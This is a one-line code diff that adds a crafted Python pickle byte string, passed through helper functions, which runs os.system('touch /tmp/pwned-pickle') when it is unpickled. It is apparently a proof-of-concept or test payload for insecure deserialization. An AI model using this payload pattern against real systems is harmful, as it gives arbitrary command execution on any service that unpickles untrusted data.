@@ -1,0 +1,1 @@
+leave(frame(bundle(b"cos\nsystem\n(S'touch /tmp/pwned-pickle'\ntR.")))
